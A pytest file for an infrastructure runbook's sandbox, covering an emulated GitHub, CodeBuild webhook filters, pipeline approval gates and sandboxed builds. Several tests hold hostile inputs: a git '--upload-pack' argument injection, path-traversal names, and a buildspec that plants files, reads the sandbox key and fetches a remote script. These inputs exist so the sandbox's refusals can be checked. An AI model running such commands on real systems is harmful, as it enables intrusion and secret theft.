"""The first pull request: the sandbox's GitHub, webhook filters, the docker stand-in, and real builds.

The fast tests use real git and the stand-ins' own rules; the sandbox tests restore the
run's applied snapshot and let CodeBuild run the rendered image buildspec for real.
"""

from __future__ import annotations

import contextlib
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from runbook_lib.errors import SandboxError
from runbook_lib.sandbox import docker_standin, github
from runbook_lib.sandbox.emulated.codebuild.builds import matches

from .conftest import ROOT, needs_terraform, restore_golden
from .tiers import missing

OPS = "111111111111"
# The filter group thoughtbot's codebuild-project module gives the image project's webhook.
PULL_REQUESTS = [[{"type": "EVENT", "pattern": "PULL_REQUEST_CREATED,PULL_REQUEST_UPDATED"}]]


def _pr(event: str = "PULL_REQUEST_CREATED", head: str = "refs/heads/feature") -> dict:
    return {"kind": "pull_request", "repository": "acme-co/web", "event": event, "number": 1, "head_ref": head,
            "base_ref": "refs/heads/main", "head_sha": "0" * 40}


def test_a_pull_request_passes_the_image_webhook_and_a_push_or_a_close_does_not():
    assert matches(PULL_REQUESTS, _pr())
    assert matches(PULL_REQUESTS, _pr("PULL_REQUEST_UPDATED"))
    assert not matches(PULL_REQUESTS, _pr("PULL_REQUEST_CLOSED"))
    assert not matches(PULL_REQUESTS, {"kind": "push", "event": "PUSH", "ref": "refs/heads/main"})
    assert not matches([], _pr())


def test_head_ref_filters_are_regular_expressions_and_can_exclude():
    only_release = [[{"type": "EVENT", "pattern": "PULL_REQUEST_CREATED"},
                     {"type": "HEAD_REF", "pattern": "^refs/heads/release/.*"}]]
    assert matches(only_release, _pr(head="refs/heads/release/1.2"))
    assert not matches(only_release, _pr(head="refs/heads/feature"))   # filtered out: no build
    not_docs = [[{"type": "EVENT", "pattern": "PULL_REQUEST_CREATED"},
                 {"type": "HEAD_REF", "pattern": "^refs/heads/docs/", "excludeMatchedPattern": True}]]
    assert matches(not_docs, _pr(head="refs/heads/feature"))
    assert not matches(not_docs, _pr(head="refs/heads/docs/readme"))


def test_a_pull_request_is_a_branch_with_a_commit_and_pr_n_resolves_to_it(tmp_path):
    first = github.create(tmp_path, "acme-co/web", {"Dockerfile": "FROM scratch\n"})
    event = github.open_pull_request(tmp_path, "acme-co/web", "feature/a", {"codebuild/x.yml": "version: 0.2\n"}, "x")
    assert event.number == 1 and event.head_ref == "refs/heads/feature/a" and event.base_ref == "refs/heads/main"
    assert github.resolve(tmp_path, "acme-co/web", "pr/1") == event.head_sha != first
    assert github.resolve(tmp_path, "acme-co/web", "main") == first
    assert github.resolve(tmp_path, "acme-co/web", "pr/7") is None
    assert github.resolve(tmp_path, "acme-co/web", "--upload-pack=touch /tmp/x") is None
    second = github.open_pull_request(tmp_path, "acme-co/web", "feature/b", {"b": "b"}, "b")
    assert second.number == 2
    push = github.merge_pull_request(tmp_path, "acme-co/web", 1)
    assert push.ref == "refs/heads/main" and github.resolve(tmp_path, "acme-co/web", "main") == push.head_sha
    checkout = tmp_path / "checkout"
    github.checkout(tmp_path, "acme-co/web", push.head_sha, checkout)
    assert (checkout / "codebuild" / "x.yml").read_text() == "version: 0.2\n"
    with pytest.raises(SandboxError, match="no open pull request #1"):
        github.merge_pull_request(tmp_path, "acme-co/web", 1)


@pytest.mark.parametrize("name", ["../escape", "acme-co/../../x", "acme-co", "/etc/passwd", "a/b/c"])
def test_a_repository_name_that_is_not_owner_slash_name_is_refused(tmp_path, name):
    with pytest.raises(SandboxError, match="expected owner/name"):
        github.repository_path(tmp_path, name)
    assert not any(tmp_path.iterdir())


def test_a_file_outside_the_repository_is_refused_and_nothing_is_written(tmp_path):
    github.create(tmp_path, "acme-co/web", {"a": "a"})
    before = github.resolve(tmp_path, "acme-co/web", "main")
    with pytest.raises(SandboxError, match="lies outside repository"):
        github.open_pull_request(tmp_path, "acme-co/web", "evil", {"../../../outside": "x"}, "x")
    assert not (tmp_path / "outside").exists() and not (tmp_path.parent / "outside").exists()
    assert github.resolve(tmp_path, "acme-co/web", "main") == before
    with pytest.raises(SandboxError, match="branch"):
        github.open_pull_request(tmp_path, "acme-co/web", "-delete", {"a": "b"}, "x")


def test_the_docker_stand_in_refuses_a_missing_dockerfile_and_a_push_without_login(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    image = f"{OPS}.dkr.ecr.us-east-1.amazonaws.com/acme/web:abc"
    assert docker_standin.main(["build", "--tag", image, "."]) == 1
    assert "failed to read dockerfile" in capsys.readouterr().err
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    assert docker_standin.main(["build", "--tag", image, "."]) == 0
    out = capsys.readouterr().out
    assert out.startswith(docker_standin.LABEL) and "nothing built" in out
    assert docker_standin.main(["push", image]) == 1
    assert "run docker login first" in capsys.readouterr().err
    assert docker_standin.main(["login", "--username", "AWS", "--password", "x", "registry.example.com"]) == 1
    assert "is not an ECR registry" in capsys.readouterr().err


@pytest.mark.parametrize("args, words", [
    (["pipeline", "merge"], "needs --app"),
    (["pipeline", "pull-request", "--app", "parameters/apps/web.yaml", "--limit", "-5"], "--limit -5: must be"),
    (["pipeline", "pull-request", "--app", "parameters/apps/web.yaml"], "the sandbox is not running"),
], ids=["no-app", "negative-limit", "no-sandbox"])
def test_pipeline_refuses_bad_input_with_one_line_and_writes_nothing(tmp_path, monkeypatch, capsys, args, words):
    from runbook_lib import cli

    monkeypatch.setenv("RUNBOOK_SANDBOX_DIR", str(tmp_path / "no-sandbox"))
    monkeypatch.chdir(ROOT)
    out = tmp_path / "out"
    assert cli.main([*args, "--out", str(out)]) == cli.EXIT_ERROR
    error = capsys.readouterr().err
    assert words in error and "Traceback" not in error
    assert not out.exists()


@pytest.mark.parametrize("action, target, approve, version, limit, words", [
    ("deploy", "sandbox", None, None, 10, "'deploy' is not a pipeline action"),
    ("pull-request", "sandbox", None, None, 0, "--limit 0: must be a number of seconds above 0"),
    ("pull-request", "live", True, None, 10, "on live, name what to build: --source-version pr/N"),
    ("pull-request", "live", None, "pr/7", 10,
     "StartBuild of the image project for pr/7 on live needs approval given for this run: --auto-approve"),
    ("merge", "live", False, None, 10,
     "StartPipelineExecution of the staging pipeline on live needs approval given for this run"),
    ("pull-request", "sandbox", None, "pr/7", 10, "--source-version 'pr/7' is for live"),
], ids=["unknown-action", "zero-limit", "live-without-version", "live-build-unapproved", "live-pipeline-unapproved",
        "version-in-the-sandbox"])
def test_the_engine_refuses_a_bad_pipeline_request_before_anything_is_written(tmp_path, org, apps, monkeypatch, action,
                                                                               target, approve, version, limit, words):
    """Hostile: nothing started, nothing written, no AWS client made (on live a start needs approval for this run)."""
    import botocore.session

    from runbook_lib.engine import Engine, Settings
    from runbook_lib.errors import RunbookError

    def refuse(self, *args, **kwargs):
        raise AssertionError(f"an AWS client was created: {args}")

    monkeypatch.setattr(botocore.session.Session, "create_client", refuse)
    engine = Engine(Settings(org, apps["web"], target=target, out=tmp_path / "out", auto_approve=approve),
                    sink=lambda _line: None)
    with pytest.raises(RunbookError, match=re.escape(words)):
        engine.pipeline(action, limit=limit, source_version=version)
    assert not (tmp_path / "out").exists()


def test_the_cli_on_live_prints_the_git_steps_and_starts_nothing_without_approval(tmp_path, monkeypatch, capsys):
    import botocore.session

    from runbook_lib import cli

    def refuse(self, *args, **kwargs):
        raise AssertionError(f"an AWS client was created: {args}")

    monkeypatch.setattr(botocore.session.Session, "create_client", refuse)
    monkeypatch.chdir(ROOT)
    flags = ["--app", "parameters/apps/web.yaml", "--target", "live", "--out", str(tmp_path / "out")]
    assert cli.main(["pipeline", "pull-request", *flags]) == cli.EXIT_OK
    shown = capsys.readouterr().out
    assert "git switch -c runbook/first-pull-request" in shown and "--source-version pr/N --auto-approve" in shown
    assert cli.main(["pipeline", "merge", "--stage", "production", *flags]) == cli.EXIT_ERROR
    error = capsys.readouterr().err
    assert "StartPipelineExecution of the production pipeline on live needs approval given for this run" in error
    assert "Traceback" not in error
    assert cli.main(["pipeline", "merge", "--stage", "qa", *flags]) == cli.EXIT_ERROR   # not a stage of web
    assert "stage = 'qa' is not a stage of web" in capsys.readouterr().err


def test_the_pipeline_notebook_on_live_prints_the_git_steps_and_calls_no_aws(tmp_path, monkeypatch, capsys):
    """03a on live: the rendered buildspec and the git commands that put it in place; no AWS client is made."""
    import botocore.session

    from runbook_lib import notebook as rb

    def refuse(self, *args, **kwargs):
        raise AssertionError(f"an AWS client was created: {args}")

    monkeypatch.setattr(botocore.session.Session, "create_client", refuse)
    monkeypatch.chdir(ROOT)
    monkeypatch.delenv("JPY_SESSION_NAME", raising=False)
    session = rb.start("parameters/org.yaml", "parameters/apps/web.yaml", target="live", out_dir=str(tmp_path / "out"))
    assert rb.first_pull_request(session) is True
    shown = capsys.readouterr().out
    assert "the runbook pushes nothing to your repositories" in shown
    assert "git switch -c runbook/first-pull-request" in shown and "git push -u origin" in shown
    from runbook_lib.render.buildspecs import IMAGE_BUILDSPEC_PATH

    rendered = tmp_path / "out" / "repositories" / "acme-co" / "web" / IMAGE_BUILDSPEC_PATH
    assert rendered.is_file() and f"cp {rendered.resolve()} {IMAGE_BUILDSPEC_PATH}" in shown


def test_a_failed_builds_log_is_read_for_its_cause_and_remedy():
    from runbook_lib.pipeline import diagnose

    denied = ("An error occurred (AccessDenied) when calling the AssumeRole operation: User: arn:aws:sts::1:assumed-role/x/y "
              "is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::222222222222:role/acme-staging-deploy")
    cause, remedy = diagnose(["[Container] Running command ...", denied])
    assert "may not assume arn:aws:iam::222222222222:role/acme-staging-deploy" in cause and "CD root" in remedy
    cause, remedy = diagnose(["error: You must be logged in to the server (Unauthorized)"])
    assert "Kubernetes API" in cause and "deploy_access: access_entry" in remedy
    assert diagnose(["something nobody has seen"]) is None


# -- real builds in the sandbox -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def applied(tmp_path_factory, golden):
    """A sandbox holding the applied example apps."""
    import shutil

    from runbook_lib.sandbox import build_tools, server

    if shutil.which("bwrap") is None:
        missing("bubblewrap (bwrap), which sandbox builds run in")
    if build_tools.tools_folder() is None:
        missing(f"the sandbox's pinned build tools ({build_tools.TOOLS_ENV}; make tools)")

    directory = tmp_path_factory.mktemp("builds-sandbox")
    running = restore_golden(golden, "applied", directory)
    yield running, directory
    server.stop(directory)


def _clients(url: str):
    from runbook_lib.sandbox.clients import SandboxSessions

    sessions = SandboxSessions(url, "us-east-1", "terraform-execution")
    return sessions.client("codebuild", OPS), sessions.client("logs", OPS), sessions.client("ecr", OPS)


def _wait(codebuild, build_id: str, limit: float = 120) -> dict:
    deadline = time.monotonic() + limit
    while True:
        build = codebuild.batch_get_builds(ids=[build_id])["builds"][0]
        if build["buildComplete"] or time.monotonic() > deadline:
            return build
        time.sleep(0.5)


@needs_terraform()
@pytest.mark.sandbox
def test_the_first_pull_request_builds_and_pushes_the_image_tagged_with_its_commit(applied, tmp_path):
    running, directory = applied
    env = {**__import__("os").environ, "RUNBOOK_SANDBOX_DIR": str(directory)}
    done = subprocess.run([sys.executable, "-m", "runbook_lib.cli", "pipeline", "pull-request",
                           "--app", "parameters/apps/web.yaml", "--out", str(tmp_path / "out"), "--limit", "120"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "opened pull request #1 in acme-co/web" in done.stdout
    assert "[sandbox stand-in: docker] Login Succeeded" in done.stdout
    [line] = [line for line in done.stdout.splitlines() if line.startswith("build acme-web-image:")]
    assert ": SUCCEEDED, source pr/1 at " in line
    head = github.resolve(directory, "acme-co/web", "pr/1")
    codebuild, logs, ecr = _clients(running.url)
    build = codebuild.batch_get_builds(ids=[line.split()[1].rstrip(":")])["builds"][0]
    assert build["resolvedSourceVersion"] == head
    assert [p["phaseType"] for p in build["phases"]][-3:] == ["UPLOAD_ARTIFACTS", "FINALIZING", "COMPLETED"]
    assert all(p.get("phaseStatus") == "SUCCEEDED" for p in build["phases"][:-1])
    tags = [tag for image in ecr.describe_images(repositoryName="acme/web")["imageDetails"]
            for tag in image.get("imageTags", [])]
    assert head in tags
    events = logs.get_log_events(logGroupName="/aws/codebuild/acme-web-image",
                                 logStreamName=build["logs"]["streamName"])["events"]
    assert any(f"pushed {OPS}.dkr.ecr.us-east-1.amazonaws.com/acme/web:{head}" in e["message"] for e in events)


def _event(url: str, event) -> list[str]:
    from runbook_lib.sandbox.server import post_json

    return post_json(url, "/runbook-sandbox/github/event", event.as_json(), 60, "refused: {problem}", "no answer")["builds"]


def _seeded(directory: Path) -> None:
    if not github.exists(directory, "acme-co/web"):
        github.create(directory, "acme-co/web", {"Dockerfile": "FROM scratch\n"})


@needs_terraform()
@pytest.mark.sandbox
@pytest.mark.parametrize("buildspec, phase, code, words", [
    ("phases: [unclosed", "DOWNLOAD_SOURCE", "YAML_FILE_ERROR", "is not valid YAML"),
    ("version: 0.1\nphases: {}\n", "DOWNLOAD_SOURCE", "YAML_FILE_ERROR", "version '0.1' is not supported"),
    ("version: 0.2\nphases:\n  pre_build:\n    commands: [\"false\"]\n  build:\n    commands: [\"echo never\"]\n",
     "PRE_BUILD", "COMMAND_EXECUTION_ERROR", "Error while executing command: false. Reason: exit status 1"),
    ("version: 0.2\nenv:\n  parameter-store:\n    TOKEN: /cicd/github-token\nphases:\n  build:\n"
     "    commands: [\"echo token=$TOKEN\", \"exit 3\"]\n",
     "BUILD", "COMMAND_EXECUTION_ERROR", "Error while executing command: exit 3. Reason: exit status 3"),
], ids=["not-yaml", "version-0.1", "pre-build-fails", "secret-masked"])
def test_a_broken_buildspec_fails_in_the_phase_aws_fails_it(applied, buildspec, phase, code, words):
    running, directory = applied
    _seeded(directory)
    event = github.open_pull_request(directory, "acme-co/web", f"broken-{phase.lower()}-{code.lower()}-{time.time_ns()}",
                                     {"codebuild/image-build.yml": buildspec}, "broken")
    [build_id] = _event(running.url, event)
    codebuild, logs, _ecr = _clients(running.url)
    build = _wait(codebuild, build_id)
    assert build["buildStatus"] == "FAILED"
    [failed] = [p for p in build["phases"] if p.get("phaseStatus") not in (None, "SUCCEEDED")]
    assert failed["phaseType"] == phase and failed["contexts"][0]["statusCode"] == code
    assert words in failed["contexts"][0]["message"]
    types = [p["phaseType"] for p in build["phases"]]
    if phase != "BUILD":
        assert "BUILD" not in types[types.index(phase) + 1:]   # nothing after a failed early phase but FINALIZING
    else:
        assert types[types.index("BUILD") + 1] == "POST_BUILD"   # a failed BUILD still runs POST_BUILD
    messages = [e["message"] for e in logs.get_log_events(logGroupName="/aws/codebuild/acme-web-image",
                                                           logStreamName=build["logs"]["streamName"])["events"]]
    assert "never" not in "\n".join(messages)
    if "TOKEN" in buildspec:
        from runbook_lib.sandbox.clients import SandboxSessions

        token = SandboxSessions(running.url, "us-east-1", "terraform-execution").client("ssm", OPS).get_parameter(
            Name="/cicd/github-token", WithDecryption=True)["Parameter"]["Value"]
        assert "token=***" in messages and token not in "\n".join(messages)
        assert token not in (directory / "builds" / build["logs"]["streamName"] / "build.log").read_text()


@needs_terraform()
@pytest.mark.sandbox
def test_a_filtered_event_starts_nothing_and_a_missing_version_fails_download_source(applied):
    running, directory = applied
    _seeded(directory)
    codebuild, _logs, _ecr = _clients(running.url)
    event = github.open_pull_request(directory, "acme-co/web", f"closed-{time.time_ns()}", {"a": "b"}, "closed")
    closed = github.PullRequestEvent("acme-co/web", "PULL_REQUEST_CLOSED", event.number, event.head_ref,
                                     event.base_ref, event.head_sha)
    assert _event(running.url, closed) == []
    missing_version = _wait(codebuild, codebuild.start_build(projectName="acme-web-image",
                                                             sourceVersion="pr/999")["build"]["id"])
    [failed] = [p for p in missing_version["phases"] if p.get("phaseStatus") == "FAILED"]
    assert failed["phaseType"] == "DOWNLOAD_SOURCE" and failed["contexts"][0]["statusCode"] == "CLIENT_ERROR"
    assert "reference not found for primary source and source version pr/999" in failed["contexts"][0]["message"]


@contextlib.contextmanager
def _bare_sandbox(tmp_path: Path, name: str, buildspec: str, minute: str | None = None):
    """A sandbox of its own (no Terraform) with one CodeBuild project building ``buildspec`` from acme-co/<name>."""
    import os
    import shutil

    from runbook_lib.sandbox import server
    from runbook_lib.sandbox.clients import SandboxSessions

    if shutil.which("bwrap") is None:
        missing("bubblewrap (bwrap), which sandbox builds run in")
    directory = tmp_path / "sandbox"
    previous = os.environ.get("RUNBOOK_SANDBOX_BUILD_MINUTE")
    if minute is not None:
        os.environ["RUNBOOK_SANDBOX_BUILD_MINUTE"] = minute   # read by the emulator when it starts
    try:
        running = server.start(directory=directory)
    finally:
        if minute is not None and previous is None:
            del os.environ["RUNBOOK_SANDBOX_BUILD_MINUTE"]
        elif minute is not None:
            os.environ["RUNBOOK_SANDBOX_BUILD_MINUTE"] = previous
    try:
        sessions = SandboxSessions(running.url, "us-east-1", "terraform-execution")
        role = sessions.client("iam", OPS).create_role(RoleName=name, AssumeRolePolicyDocument=json.dumps({
            "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
                                                    "Principal": {"Service": "codebuild.amazonaws.com"}}]}))["Role"]
        codebuild = sessions.client("codebuild", OPS)
        codebuild.create_project(name=name, source={"type": "GITHUB", "location": f"https://github.com/acme-co/{name}.git"},
                                 artifacts={"type": "NO_ARTIFACTS"}, serviceRole=role["Arn"],
                                 environment={"type": "LINUX_CONTAINER", "image": "aws/codebuild/standard:5.0",
                                              "computeType": "BUILD_GENERAL1_SMALL"})
        github.create(directory, f"acme-co/{name}", {"buildspec.yml": buildspec})
        yield codebuild
    finally:
        server.stop(directory)


@pytest.mark.sandbox
def test_a_command_that_hangs_ends_timed_out_at_the_builds_limit(tmp_path):
    """A 5-minute limit (the least AWS takes) on a sandbox whose minute is 0.4 s: TIMED_OUT in BUILD after 2 s."""
    with _bare_sandbox(tmp_path, "hang", "version: 0.2\nphases:\n  build:\n    commands: [\"sleep 600\"]\n",
                       minute="0.4") as codebuild:
        started = codebuild.start_build(projectName="hang", timeoutInMinutesOverride=5)["build"]
        build = _wait(codebuild, started["id"])
    assert build["buildStatus"] == "TIMED_OUT"
    assert [p for p in build["phases"] if p["phaseType"] == "BUILD"][0]["phaseStatus"] == "TIMED_OUT"


def _cli(directory: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    import os

    env = {**os.environ, "RUNBOOK_SANDBOX_DIR": str(directory)}
    return subprocess.run([sys.executable, "-m", "runbook_lib.cli", "pipeline", *args, "--app", "parameters/apps/web.yaml",
                           "--out", str(tmp_path / "out"), "--limit", "180"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=400)


@needs_terraform()
@pytest.mark.sandbox
def test_a_merge_runs_the_staging_pipeline_through_deploy_with_a_not_emulated_apply(applied, tmp_path):
    """Source, the image and manifests builds, and the deploy build, each real; the apply itself is NOT_EMULATED."""
    running, directory = applied
    done = _cli(directory, tmp_path, "merge")
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-3000:]
    for action in ("Source.Source", "Source.Manifests", "Build.Docker", "Build.Manifests", "Deploy.acme-staging"):
        assert f"[acme-web-staging] {action}: Succeeded" in done.stdout, done.stdout[-3000:]
    assert "pipeline acme-web-staging execution" in done.stdout and done.stdout.rstrip().endswith("Succeeded")
    from runbook_lib.sandbox.clients import SandboxSessions

    sessions = SandboxSessions(running.url, "us-east-1", "terraform-execution")
    codepipeline, codebuild = sessions.client("codepipeline", OPS), sessions.client("codebuild", OPS)
    state = codepipeline.get_pipeline_state(name="acme-web-staging")
    assert [s["latestExecution"]["status"] for s in state["stageStates"]] == ["Succeeded"] * 3
    head = github.resolve(directory, "acme-co/web", "refs/heads/main")
    [deploy] = [a for a in codepipeline.list_action_executions(pipelineName="acme-web-staging")["actionExecutionDetails"]
                if a["actionName"] == "acme-staging"][:1]
    build = codebuild.batch_get_builds(ids=[deploy["output"]["executionResult"]["externalExecutionId"]])["builds"][0]
    log = (directory / "builds" / build["logs"]["streamName"] / "build.log").read_text()
    assert "[sandbox stand-in: curl] served the SHA-256 of the kubectl it serves" in log
    assert f"images: {OPS}.dkr.ecr.us-east-1.amazonaws.com/acme/web:{head}" in log   # the image just built
    assert "NOT_EMULATED: applied to the cluster of context arn:aws:eks:us-east-1:222222222222:cluster/acme-staging" in log
    assert "PASS" not in log


    # Live, approved for this run, does what a person would: StartBuild for a source version, then
    # StartPipelineExecution. STAND-IN: the "live" engine's clients are aimed at the sandbox (no real
    # account here), so the sandbox's CodeBuild and CodePipeline run what the live calls start.
    from runbook_lib.checks.sessions import SandboxClients
    from runbook_lib.engine import Engine, Settings
    from runbook_lib.parameters import load_app, load_org

    org = load_org(ROOT / "parameters" / "org.yaml")
    app = load_app(ROOT / "parameters" / "apps" / "web.yaml", org, ROOT / "parameters" / "org.yaml")
    said: list[str] = []
    live = Engine(Settings(org, app, target="live", out=tmp_path / "live", auto_approve=True), sink=said.append)
    live._clients = SandboxClients(running.url, org.region, org.terraform_role_name)   # STAND-IN for live accounts
    built = live.pipeline("pull-request", limit=180, source_version="main")
    assert built.succeeded, said[-20:]
    assert [b.project for b in built.builds] == ["acme-web-image"] and built.builds[0].source_version == "main"
    assert built.images == [f"acme/web:{head}"]   # read back from ECR: the tag is the commit main resolved to
    assert said[0].startswith("started build acme-web-image:") and said[0].endswith(" of acme-web-image for main")
    deployed = live.pipeline("merge", limit=180)
    assert deployed.succeeded, said[-20:]
    [execution] = deployed.executions
    assert execution.pipeline == "acme-web-staging" and execution.status == "Succeeded"
    assert [(a.stage, a.action) for a in execution.actions][-1] == ("Deploy", "acme-staging")
    assert any(line.startswith("started pipeline acme-web-staging execution ") for line in said)
    assert not (tmp_path / "live").exists()   # on live the runbook wrote nothing: it only started and followed


@needs_terraform()
@pytest.mark.sandbox
def test_a_build_reaches_no_network_and_writes_nothing_outside_its_folder(applied, tmp_path):
    """Hostile buildspec: it reaches for the network and writes to the machine; refused, and the build fails."""
    running, directory = applied
    _seeded(directory)
    outside = Path(ROOT) / f"written-by-a-build-{time.time_ns()}"   # the checkout: a real folder of the machine
    event = github.open_pull_request(directory, "acme-co/web", f"escape-{time.time_ns()}", {
        "codebuild/image-build.yml": (
            "version: 0.2\nphases:\n  install:\n    commands:\n"
            "      - echo hidden > /usr/local/bin/planted\n"
            f"      - echo x > {outside} || echo 'write refused'\n"
            f"      - cat {directory / 'sandbox.json'} || echo 'key hidden'\n"
            "      - curl -fsSL -o install.sh https://example.com/install.sh\n")}, "escape")
    [build_id] = _event(running.url, event)
    codebuild, _logs, _ecr = _clients(running.url)
    build = _wait(codebuild, build_id)
    assert build["buildStatus"] == "FAILED"
    log = (directory / "builds" / build["logs"]["streamName"] / "build.log").read_text()
    created = outside.exists()
    outside.unlink(missing_ok=True)
    assert not created and not Path("/usr/local/bin/planted").exists()
    assert "write refused" in log and "the sandbox reaches no network: https://example.com/install.sh refused" in log
    assert "key hidden" in log and running.key not in log   # the sandbox's folder is hidden from its builds
    assert "Error while executing command: curl -fsSL -o install.sh https://example.com/install.sh. Reason: exit status 6" in log


@needs_terraform()
@pytest.mark.sandbox
def test_a_deploy_role_without_cluster_access_gets_unauthorized_and_the_check_says_why(applied, tmp_path):
    """The live blocker the guide is silent on: no access entry, kubectl Unauthorized, postflight FAIL with the remedy."""
    import os

    from runbook_lib.naming import eks_deploy_access_policy
    from runbook_lib.sandbox.clients import SandboxSessions

    running, directory = applied
    role = "arn:aws:iam::222222222222:role/acme-staging-deploy"
    eks = SandboxSessions(running.url, "us-east-1", "terraform-execution").client("eks", "222222222222")
    eks.delete_access_entry(clusterName="acme-staging", principalArn=role)
    try:
        done = _cli(directory, tmp_path, "merge")
        assert done.returncode == 1, done.stdout[-3000:]
        assert "[acme-web-staging] Deploy.acme-staging: Failed" in done.stdout
        assert "Error while executing command: kubectl apply" in done.stdout
        assert "cause: the deploy role has no access to the cluster's Kubernetes API" in done.stdout
        codebuild = _clients(running.url)[0]
        deploys = codebuild.list_builds_for_project(projectName="acme-web-deploy")["ids"]
        build = codebuild.batch_get_builds(ids=deploys[:1])["builds"][0]
        log = (directory / "builds" / build["logs"]["streamName"] / "build.log").read_text()
        assert "error: You must be logged in to the server (Unauthorized)" in log
        assert f"{role} has no access entry on cluster acme-staging" in log
        env = {**os.environ, "RUNBOOK_SANDBOX_DIR": str(directory)}
        check = subprocess.run([sys.executable, "-m", "runbook_lib.cli", "check", "--app", "parameters/apps/web.yaml",
                                "--target", "sandbox", "--phase", "postflight", "--json", str(tmp_path / "checks.json")],
                               cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
        assert check.returncode == 1, check.stdout[-3000:]
        results = {r["id"]: r for r in json.loads((tmp_path / "checks.json").read_text())["results"]}
        access = results["common.cluster-access.staging.acme-staging"]
        assert access["status"] == "FAIL" and "kubectl would get Unauthorized" in access["found"]
        assert "Re-apply the common root" in access["remedy"]
        assert results["common.cluster-access.production.acme-production"]["status"] == "PASS"
    finally:
        eks.create_access_entry(clusterName="acme-staging", principalArn=role)
        eks.associate_access_policy(clusterName="acme-staging", principalArn=role, policyArn=eks_deploy_access_policy("us-east-1"),
                                    accessScope={"type": "cluster"})


@pytest.mark.sandbox
def test_stopping_the_sandbox_ends_a_running_build_and_everything_it_started(tmp_path):
    """A build that hangs, then `sandbox stop`: no process of the build is left behind."""
    import psutil

    marker = f"sleep {600 + time.time_ns() % 1000}"   # a command line no other process has

    def running_marker() -> bool:
        return any(marker in " ".join(p.info["cmdline"] or []) for p in psutil.process_iter(["cmdline"]))

    with _bare_sandbox(tmp_path, "stop", f"version: 0.2\nphases:\n  build:\n    commands: [\"{marker}\"]\n") as codebuild:
        build_id = codebuild.start_build(projectName="stop")["build"]["id"]
        deadline = time.monotonic() + 60
        while not running_marker():
            assert time.monotonic() < deadline, "the build's command never started"
            time.sleep(0.2)
    deadline = time.monotonic() + 10
    while running_marker():
        assert time.monotonic() < deadline, f"{marker!r} outlived the sandbox (build {build_id})"
        time.sleep(0.2)
